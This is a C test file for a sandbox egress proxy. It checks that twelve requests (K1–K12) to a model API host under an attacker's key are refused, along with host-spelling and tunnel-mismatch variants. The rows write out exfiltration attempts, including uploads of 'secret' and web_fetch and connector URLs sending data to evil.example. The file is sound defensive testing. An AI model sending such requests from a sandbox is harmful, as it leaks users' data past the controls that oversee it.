/* test-attacks-k.c
 *
 * The attacks K1 to K12: carrying data out through the host of the model under somebody else's key.
 * Every one of them needs a request of the task's to that host, and there is none: it is refused
 * whatever the user has allowed, before its name is looked up, as plain HTTP and as a tunnel.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "fake-internet.h"
#include "tls-hello-builder.h"

#include <string.h>

#define MODEL "api.model.example"
#define TUNNEL "CONNECT " MODEL ":443 HTTP/1.1\r\nHost: " MODEL ":443\r\n\r\n"
#define KEY "x-api-key: sk-of-the-attacker\r\n"

typedef struct
{
  const char *name;
  const char *line;    /* method and path of the request */
  const char *headers; /* each with its line end */
  const char *body;
} Row;

static const Row rows[] = {
  { "K1-foreign-key", "GET /v1/models", KEY, NULL },
  { "K2-foreign-bearer", "GET /v1/models", "Authorization: Bearer of-the-attacker\r\n", NULL },
  { "K3-both", "GET /v1/models", KEY "Authorization: Bearer of-the-attacker\r\n", NULL },
  { "K4-key-in-query", "GET /v1/models?api_key=of-the-attacker", "", NULL },
  { "K5-cookie", "GET /v1/models", "Cookie: session=of-the-attacker\r\n", NULL },
  { "K6-files", "POST /v1/files", KEY, "secret" },
  { "K7-batches", "POST /v1/messages/batches", KEY, "{\"requests\":[\"secret\"]}" },
  { "K8-other-organisation", "GET /v1/models",
    KEY "anthropic-organization-id: other\r\nOpenAI-Organization: other\r\n", NULL },
  { "K9-fetching-server", "POST /v1/messages", KEY,
    "{\"tools\":[{\"type\":\"web_fetch\"}],\"source\":{\"type\":\"url\",\"url\":"
    "\"https://evil.example/?secret\"}}" },
  { "K10-connector-in-body", "POST /v1/messages", KEY,
    "{\"mcp_servers\":[{\"url\":\"https://evil.example/secret\"}]}" },
  { "K11-other-method", "PUT /v1/messages", KEY, "secret" },
  { "K12-other-authority", "GET /v1/models", KEY "X-Forwarded-Host: allowed.example\r\n", NULL },
};

static DexFuture *
allow_all (const char *host, guint port, gpointer data)
{
  return dex_future_new_take_string (g_strdup ("page"));
}

static FakeInternet *
new_internet (void)
{
  static const char *const scopes[] = { "once", "task", "always", "package-hosts" };
  FakeInternet *net = fake_internet_new (NULL);

  fake_internet_name (net, MODEL, FAKE_TLS, NULL);
  fake_internet_name (net, "tls.example", FAKE_TLS, NULL);
  annex_network_policy_set (net->policy, "tls.example", TRUE, "task");
  for (gsize i = 0; i < G_N_ELEMENTS (scopes); i++)
    annex_network_policy_set (net->policy, MODEL, TRUE, scopes[i]);
  annex_egress_proxy_set_judge_func (net->proxy, allow_all, NULL);
  annex_policy_reserve_host (MODEL);
  return net;
}

static void
assert_refused (FakeInternet *net, const char *request, gsize length)
{
  g_autofree char *answer = NULL;

  fake_internet_forget (net);
  answer = fake_guest_exchange (net, request, (gssize) length, NULL);
  g_assert_cmpuint (fake_status (answer), ==, 403);
  g_assert_nonnull (strstr (answer, "only Annex itself speaks to it"));
  g_assert_cmpstr (fake_last_row (net)->decision, ==, "refused");
  g_assert_cmpstr (fake_last_row (net)->by, ==, "policy");
  g_assert_cmpuint (net->queries->len, ==, 0);
  g_assert_cmpuint (net->dialled->len, ==, 0);
}

static void
test_row (gconstpointer data)
{
  const Row *row = data;
  g_autoptr (FakeInternet) net = new_internet ();
  TlsHelloOptions options = { .server_name = MODEL };
  g_autoptr (GBytes) hello = tls_hello_build (&options);
  g_autoptr (GByteArray) tunnel = g_byte_array_new ();
  g_auto (GStrv) words = g_strsplit (row->line, " ", 2);
  g_autofree char *length =
      row->body != NULL
          ? g_strdup_printf ("Content-Length: %" G_GSIZE_FORMAT "\r\n", strlen (row->body))
          : g_strdup ("");
  g_autofree char *plain =
      g_strconcat (words[0], " http://" MODEL, words[1], " HTTP/1.1\r\nHost: " MODEL "\r\n",
                   row->headers, length, "\r\n", row->body, NULL);

  assert_refused (net, plain, strlen (plain));
  g_byte_array_append (tunnel, (const guint8 *) TUNNEL, strlen (TUNNEL));
  g_byte_array_append (tunnel, g_bytes_get_data (hello, NULL), g_bytes_get_size (hello));
  assert_refused (net, (const char *) tunnel->data, tunnel->len);
}

/* Another spelling is the same host, another port is not another way, and the name in a tunnel to a
 * host that is allowed is no way there either. */
static void
test_other_ways (void)
{
  static const char *const requests[] = {
    "CONNECT API.Model.Example.:443 HTTP/1.1\r\nHost: api.model.example\r\n\r\n",
    "CONNECT api.model.example.:443 HTTP/1.1\r\nHost: api.model.example.\r\n\r\n",
  };
  g_autoptr (FakeInternet) net = new_internet ();
  TlsHelloOptions options = { .server_name = MODEL };
  g_autoptr (GIOStream) guest = NULL;
  g_autoptr (GBytes) hello = tls_hello_build (&options);
  g_autoptr (GByteArray) got = NULL;
  g_autofree char *answer = NULL;
  static const char open[] = "CONNECT tls.example:443 HTTP/1.1\r\nHost: tls.example:443\r\n\r\n";

  for (gsize i = 0; i < G_N_ELEMENTS (requests); i++)
    {
      g_autofree char *refused = NULL;

      fake_internet_forget (net);
      refused = fake_guest_exchange (net, requests[i], -1, NULL);
      g_assert_cmpuint (fake_status (refused), >=, 400);
      g_assert_cmpuint (net->dialled->len, ==, 0);
    }

  guest = fake_guest_open (net);
  g_assert_true (fake_guest_send (guest, open, strlen (open)));
  answer = fake_guest_receive_text (guest, "\r\n\r\n");
  g_assert_cmpuint (fake_status (answer), ==, 200);
  g_assert_true (fake_guest_send (guest, g_bytes_get_data (hello, NULL), g_bytes_get_size (hello)));
  got = fake_guest_receive (guest, 10000);
  fake_settle (net);
  g_assert_cmpuint (net->tls_got->len, ==, 0);
  g_assert_cmpstr (fake_last_row (net)->decision, ==, "refused");
}

int
main (int argc, char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  dex_init ();
  for (gsize i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autofree char *path = g_strconcat ("/attacks/K/", rows[i].name, NULL);

      g_test_add_data_func (path, &rows[i], test_row);
    }
  g_test_add_func ("/attacks/K/other-ways", test_other_ways);
  return g_test_run ();
}
